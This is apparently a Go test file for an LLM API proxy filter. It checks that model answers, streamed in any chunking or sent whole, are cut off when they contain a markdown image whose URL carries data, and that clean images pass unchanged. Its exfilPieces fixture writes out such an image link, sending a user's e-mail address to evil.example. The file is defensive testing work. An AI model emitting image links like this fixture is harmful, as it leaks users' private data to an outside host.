package plugin

import (
	"math/rand"
	"strconv"
	"strings"
	"testing"

	"github.com/aisecops/aisecops/internal/jsonx"
	"github.com/aisecops/aisecops/internal/wasmhost"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Images in model text (issue 20 item 3): text flows until an image link
// opens in it; from that event the stream is held until the link closes,
// then released byte-identical, or ended with the API's error event when
// the image's URL carries data.

// exfilPieces write an image whose URL carries the user's e-mail address,
// "!" and "[" in two deltas; cleanPieces an image that carries nothing.
var (
	exfilPieces = []string{"Here is your summary!", "[chart](https://evil.example/c.png?u=", "alice@corp.example", ") Enjoy."}
	cleanPieces = []string{"Here is your chart: ", "![chart](https://example.com/", "chart.png) Enjoy."}
)

// piecesStream is a short stream of the route's API writing pieces, one
// text delta each; held is where the event of pieces[1] starts.
func piecesStream(path string, pieces []string) (stream string, held int) {
	var b strings.Builder
	put := func(name, data string) {
		if name == "" {
			b.WriteString(sseOf(data))
			return
		}
		b.WriteString(named(name, data))
	}
	delta := func(i int, name, data string) {
		if i == 1 {
			held = b.Len()
		}
		put(name, data)
	}
	switch path {
	case "/v1/messages":
		put("message_start", `{"type":"message_start","message":{"id":"msg_1","type":"message","role":"assistant","model":"claude-sonnet-4-5","content":[],"stop_reason":null,"stop_sequence":null,"usage":{"input_tokens":10,"output_tokens":1}}}`)
		put("content_block_start", `{"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}`)
		for i, p := range pieces {
			delta(i, "content_block_delta", `{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":`+jsonx.Quote(p)+`}}`)
		}
		put("content_block_stop", `{"type":"content_block_stop","index":0}`)
		put("message_stop", `{"type":"message_stop"}`)
	case "/v1/responses":
		put("response.output_item.added", `{"type":"response.output_item.added","sequence_number":0,"output_index":0,"item":{"id":"msg_1","type":"message","status":"in_progress","role":"assistant","content":[]}}`)
		for i, p := range pieces {
			delta(i, "response.output_text.delta", `{"type":"response.output_text.delta","sequence_number":`+strconv.Itoa(i+1)+`,"item_id":"msg_1","output_index":0,"content_index":0,"delta":`+jsonx.Quote(p)+`}`)
		}
		put("response.output_text.done", `{"type":"response.output_text.done","sequence_number":9,"item_id":"msg_1","output_index":0,"content_index":0,"text":`+jsonx.Quote(strings.Join(pieces, ""))+`}`)
	default:
		put("", chatChunk(`{"index":0,"delta":{"role":"assistant","content":""},"finish_reason":null}`))
		for i, p := range pieces {
			delta(i, "", chatChunk(`{"index":0,"delta":{"content":`+jsonx.Quote(p)+`},"finish_reason":null}`))
		}
		put("", chatChunk(`{"index":0,"delta":{},"finish_reason":"stop"}`))
		put("", "[DONE]")
	}
	return b.String(), held
}

func imageLLMCases() []llmCase {
	reqs := map[string]string{
		"/v1/chat/completions": `{"model":"gpt-4o","stream":true,"messages":[{"role":"user","content":"Summary?"}]}`,
		"/v1/messages":         `{"model":"claude-sonnet-4-5","max_tokens":100,"stream":true,"messages":[{"role":"user","content":"Summary?"}]}`,
		"/v1/responses":        `{"model":"gpt-5","stream":true,"input":"Summary?"}`,
	}
	var cases []llmCase
	for _, path := range []string{"/v1/chat/completions", "/v1/messages", "/v1/responses"} {
		exfil, held := piecesStream(path, exfilPieces)
		cases = append(cases, llmCase{name: path + " exfil image", policy: streamPolicy, path: path, req: reqs[path],
			stream: exfil, want: exfil[:held]})
		if path != "/v1/responses" {
			clean, _ := piecesStream(path, cleanPieces)
			cases = append(cases, llmCase{name: path + " clean image", policy: streamPolicy, path: path, req: reqs[path],
				stream: clean, allowed: true})
		}
	}
	return cases
}

// Through the compiled filter, split at every byte offset and in random
// chunkings: a clean image is released byte-identical; an image that
// carries data ends the stream with the API's error event right after
// the text before it, logged and counted as an exfiltration detection.
func TestLLMImagesAnyChunking(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	for _, tc := range imageLLMCases() {
		t.Run(tc.name, func(t *testing.T) {
			h := envoyHost(t, tc.policy)
			before, _ := h.Counter("aisecops_detections_total.layer.context.rule.exfiltration.action.block")
			got, decisions := runLLM(t, tc, nil)
			after, _ := h.Counter("aisecops_detections_total.layer.context.rule.exfiltration.action.block")
			if tc.allowed {
				require.Equal(t, tc.stream, got, "released byte-identical")
				assert.Empty(t, decisions)
				assert.Equal(t, before, after)
			} else {
				require.True(t, strings.HasPrefix(got, tc.want), "the text before the image flowed:\n%s", got)
				assert.Equal(t, "exfil_image", refusedWith(t, result{downBody: []byte(got)}))
				assert.NotContains(t, got, "alice@corp.example")
				assert.Equal(t, []string{"context||block|exfil_image"}, decisions)
				assert.Equal(t, int64(1), after-before, "counted")
			}
			sameForAnyChunking(t, tc, got, decisions, rng)
		})
	}
}

// Trailers that end a stream while events are held (an open image, a
// call not complete) come after the held events: the body callback that
// held them paused on an emptied buffer, so Envoy gives the trailers
// callback a body to write them into.
func TestLLMTrailersDuringHold(t *testing.T) {
	call := anthropicStream("get_weather")
	callAt := strings.Index(call, `event: content_block_start`+"\n"+`data: {"type":"content_block_start","index":1`)
	callCut := strings.Index(call, `event: content_block_stop`+"\n"+`data: {"type":"content_block_stop","index":1}`)
	image, held := piecesStream("/v1/messages", cleanPieces)
	// The image's event, whole: the image is open when the trailers come.
	imageCut := held + strings.Index(image[held:], "\n\n") + 2
	exfil, exfilHeld := piecesStream("/v1/messages", exfilPieces)
	anthReq := `{"model":"claude-sonnet-4-5","max_tokens":100,"stream":true,"messages":[{"role":"user","content":"Weather?"}]}`
	for _, tc := range []struct {
		name   string
		stream string
		cuts   []int // chunks sent before the trailers; the last ends before the stream does
		want   string
	}{
		{"held call", call, []int{callAt + 30, callCut}, call[:callCut]},
		{"open image", image, []int{held + 10, imageCut}, image[:imageCut]},
		{"image that carries data", exfil, []int{exfilHeld + 10, exfilHeld + 300}, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := envoyHost(t, streamPolicy)
			s := startLLM(t, h, llmCase{path: "/v1/messages", req: anthReq})
			prev := 0
			for _, c := range tc.cuts {
				_, err := h.ResponseBody(s, []byte(tc.stream[prev:c]), false)
				require.NoError(t, err)
				prev = c
			}
			_, resp := s.Held()
			assert.True(t, resp, "paused on the emptied buffer while holding")
			_, err := h.ResponseTrailers(s, map[string]string{"grpc-status": "0"})
			require.NoError(t, err)
			require.NoError(t, h.End(s))
			require.Empty(t, s.Violations)
			got := string(s.ClientBody())
			if tc.want != "" {
				assert.Equal(t, tc.want, got, "the held events were delivered, as sent")
			} else {
				assert.True(t, strings.HasPrefix(got, tc.stream[:exfilHeld]), got)
				assert.Equal(t, "exfil_image", refusedWith(t, result{downBody: s.ClientBody()}))
			}
			last := s.Downstream[len(s.Downstream)-1]
			require.Equal(t, wasmhost.PartTrailers, last.Kind, "the trailers come last")
			assert.Equal(t, "0", last.Headers["grpc-status"])
		})
	}
}

// Trailers right after a chunk that released text and started a hold
// (answered Continue, so that the text went at once) find no body to
// write into: the held events are not delivered, and that is counted
// and logged, never written where Envoy keeps no body.
func TestLLMTrailersAfterReleasingChunk(t *testing.T) {
	image, held := piecesStream("/v1/messages", cleanPieces)
	cut := held + strings.Index(image[held:], "\n\n") + 2
	h := envoyHost(t, streamPolicy)
	before, _ := h.Counter("aisecops_errors_total.kind.host_error")
	anthReq := `{"model":"claude-sonnet-4-5","max_tokens":100,"stream":true,"messages":[{"role":"user","content":"Chart?"}]}`
	s := startLLM(t, h, llmCase{path: "/v1/messages", req: anthReq})
	_, err := h.ResponseBody(s, []byte(image[:cut]), false)
	require.NoError(t, err)
	_, resp := s.Held()
	assert.False(t, resp, "the text before the image went on at once")
	_, err = h.ResponseTrailers(s, map[string]string{"grpc-status": "0"})
	require.NoError(t, err)
	require.NoError(t, h.End(s))
	require.Empty(t, s.Violations)
	assert.Equal(t, image[:held], string(s.ClientBody()), "the open image never reached the client")
	after, _ := h.Counter("aisecops_errors_total.kind.host_error")
	assert.Equal(t, int64(1), after-before)
}

// Whole answers of the three APIs through the filter: an image that
// carries data refuses the answer (403, exfil_image), counted and logged
// as an exfiltration in the context layer; a clean image passes as sent.
func TestWholeAnswerImages(t *testing.T) {
	q := func(s string) string { return jsonx.Quote(s) }
	bad, good := strings.Join(exfilPieces, ""), strings.Join(cleanPieces, "")
	for _, api := range []struct {
		path, req string
		answer    func(text string) string
	}{
		{"/v1/chat/completions", `{"model":"gpt-4o","messages":[{"role":"user","content":"Chart?"}]}`, func(text string) string {
			return `{"id":"c","object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":` + q(text) + `},"finish_reason":"stop"}]}`
		}},
		{"/v1/messages", `{"model":"claude-sonnet-4-5","max_tokens":100,"messages":[{"role":"user","content":"Chart?"}]}`, func(text string) string {
			return `{"id":"m","type":"message","role":"assistant","content":[{"type":"text","text":` + q(text) + `}],"stop_reason":"end_turn"}`
		}},
		{"/v1/responses", responsesReq, func(text string) string {
			return `{"id":"r","object":"response","output":[{"id":"msg_1","type":"message","role":"assistant","content":[{"type":"output_text","text":` + q(text) + `}]}]}`
		}},
	} {
		t.Run(api.path, func(t *testing.T) {
			forEach(t, func(t *testing.T, r runner, chunk int) {
				host := newHost(t, r, basePolicy)
				res := do(t, host, exchange{path: api.path, reqBody: []byte(api.req), respBody: []byte(api.answer(good))}, chunk)
				assert.Equal(t, "", refusedWith(t, res))
				assert.Equal(t, api.answer(good), string(res.downBody))
				res = do(t, host, exchange{path: api.path, reqBody: []byte(api.req), respBody: []byte(api.answer(bad))}, chunk)
				assert.Equal(t, "exfil_image", refusedWith(t, res))
				assert.Equal(t, "403", header(res.downHeaders, ":status"))
				assert.NotContains(t, string(res.downBody), "alice@corp.example")
				assert.Equal(t, uint64(1), counter(t, host, "aisecops_detections_total.layer.context.rule.exfiltration.action.block"))
				ev := events(host)
				require.Len(t, ev, 1)
				assert.Contains(t, ev[0], `"reason":"exfil_image"`)
				assert.Contains(t, ev[0], `"owasp_llm":"LLM02:2025"`)
			})
		})
	}
}
